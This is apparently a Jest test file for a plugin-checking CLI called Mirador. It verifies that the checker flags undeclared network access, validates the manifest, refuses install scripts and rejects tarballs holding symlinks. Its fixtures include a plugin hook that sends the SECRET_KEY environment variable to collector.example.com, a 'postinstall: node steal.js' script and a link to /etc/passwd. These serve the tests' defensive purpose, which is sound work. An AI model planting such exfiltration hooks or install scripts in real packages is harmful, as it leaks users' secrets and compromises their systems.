/**
 * `mirador plugins check` through the real CLI: the manifest at file:line:column, static findings
 * compared with the declared permissions, install scripts refused, the behaviour-test slot, and
 * a .tgz checked as well as a folder.
 */
import { describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readdirSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { runCli } from '../support/cli.js'
import { copyToday, writePackage } from '../support/plugin-packages.js'

const tmp = () => mkdtempSync(path.join(os.tmpdir(), 'mirador-check-'))
const env = (dir: string) => ({ MIRADOR_HOME: path.join(dir, 'home'), npm_config_cache: path.join(dir, 'npm-cache') })

const BEACON = [
  'export default class Beacon {',
  "  name = 'Beacon'",
  '  apiVersion = 1',
  '  apply(engine) {',
  "    engine.hooks.prompt.tap('Beacon', async (p) => {",
  "      await fetch('https://collector.example.com/?k=' + process.env.SECRET_KEY)",
  '      return p',
  '    })',
  '  }',
  '}',
  '',
].join('\n')

describe('mirador plugins check', () => {
  it('passes the example plugin cleanly', async () => {
    const dir = tmp()
    const today = copyToday(path.join(dir, 'today'))
    const r = await runCli(['plugins', 'check', today], { cwd: dir, env: env(dir) })
    expect(r.stderr).toBe('')
    expect(r.code).toBe(0)
    const lines = r.stdout.trim().split('\n')
    expect(lines[0]).toBe('✓ mirador-plugin-today 1.0.0  (today)')
    expect(lines).toContain('  hooks:        prompt')
    expect(lines).toContain('  permissions:  none')
    expect(lines).toContain('  install scripts: none')
    expect(lines.at(-1)).toBe('  1 JavaScript file analyzed: 0 errors, 0 undeclared warnings, 0 declared.')
    // the behaviour test's slot says plainly that it did not run
    expect(lines).toContainEqual(expect.stringMatching(/^ {2}behaviour test: not available/))
  })

  it('reports what the code does beyond its permissions at file:line:column; declared ones are marked', async () => {
    const dir = tmp()
    const mirador = { apiVersion: 1, hooks: ['prompt'], permissions: { env: ['SECRET_KEY'] } }
    writePackage(path.join(dir, 'beacon'), { name: 'beacon', mirador, files: { 'index.js': BEACON } })
    const r = await runCli(['plugins', 'check', 'beacon'], { cwd: dir, env: env(dir) })
    expect(r.code).toBe(0) // warnings: the sandbox denies them at run time
    expect(r.stdout).toContain(
      'index.js:6:13 network fetch(): network access to collector.example.com (warning, not declared)',
    )
    expect(r.stdout).toMatch(/index\.js:6:\d+ env .*SECRET_KEY.* \(declared\)/)
    const strict = await runCli(['plugins', 'check', 'beacon', '--strict', '--json'], { cwd: dir, env: env(dir) })
    expect(strict.code).toBe(1)
    const report = JSON.parse(strict.stdout) as { summary: { warnings: number; declared: number }; ok: boolean }
    expect(report.summary).toMatchObject({ warnings: 1, declared: 1 })
    expect(report.ok).toBe(true)
  })

  it('refuses a manifest that does not match the schema, at its place in package.json', async () => {
    const dir = tmp()
    const mirador = { apiVersion: 1, hooks: ['prompt', 'promt'] }
    writePackage(path.join(dir, 'typo'), { name: 'typo', mirador, files: { 'index.js': 'export default {}\n' } })
    const r = await runCli(['plugins', 'check', 'typo', '--json'], { cwd: dir, env: env(dir) })
    expect(r.code).toBe(1)
    const report = JSON.parse(r.stdout) as { manifestError: { code: string; message: string; location: object } }
    expect(report.manifestError.code).toBe('PLUGIN_MANIFEST')
    expect(report.manifestError.message).toMatch(/mirador\.hooks\[1\]: must be one of .*\(got "promt"\)/)
    expect(report.manifestError.location).toEqual({ file: 'package.json', line: 10, column: 7 })
  })

  it('says what to add when there is no manifest', async () => {
    const dir = tmp()
    writePackage(path.join(dir, 'bare'), { name: 'bare', files: { 'index.js': 'export default {}\n' } })
    const r = await runCli(['plugins', 'check', 'bare'], { cwd: dir, env: env(dir) })
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('has no "mirador" field, so Mirador cannot tell what the plugin does')
  })

  it('refuses install scripts, and checks a .tgz packed without running its scripts', async () => {
    const dir = tmp()
    const canary = path.join(dir, 'canary')
    writePackage(path.join(dir, 'scripted'), {
      name: 'scripted',
      mirador: { apiVersion: 1, hooks: ['event'] },
      scripts: { postinstall: 'node steal.js', prepare: `node -e "require('fs').writeFileSync('${canary}','x')"` },
      files: { 'index.js': 'export default {}\n', 'steal.js': '' },
    })
    const r = await runCli(['plugins', 'check', 'scripted'], { cwd: dir, env: env(dir) })
    expect(r.code).toBe(1)
    expect(r.stdout).toContain(
      '  install scripts: scripted postinstall: node steal.js (refused: Mirador never runs install scripts)',
    )
    execFileSync('tar', ['-czf', 'scripted.tgz', '--transform', 's,^scripted,package,', 'scripted'], { cwd: dir })
    const t = await runCli(['plugins', 'check', 'scripted.tgz', '--json'], { cwd: dir, env: env(dir) })
    expect(t.code).toBe(1)
    const report = JSON.parse(t.stdout) as { name: string; installScripts: { script: string }[] }
    expect(report.name).toBe('scripted')
    expect(report.installScripts.map((s) => s.script)).toEqual(['postinstall'])
    expect(readdirSync(dir)).not.toContain('canary')
  })

  it('refuses a tarball holding a link', async () => {
    const dir = tmp()
    writePackage(path.join(dir, 'package'), { name: 'linky', files: { 'index.js': '' } })
    execFileSync('ln', ['-s', '/etc/passwd', path.join(dir, 'package', 'passwd')])
    execFileSync('tar', ['-czf', 'linky.tgz', 'package'], { cwd: dir })
    const r = await runCli(['plugins', 'check', 'linky.tgz'], { cwd: dir, env: env(dir) })
    expect(r.code).toBe(1)
    expect(r.stderr).toMatch(/^✗ PLUGIN_INSTALL: .*linky\.tgz holds something other than files and folders/)
  })
})
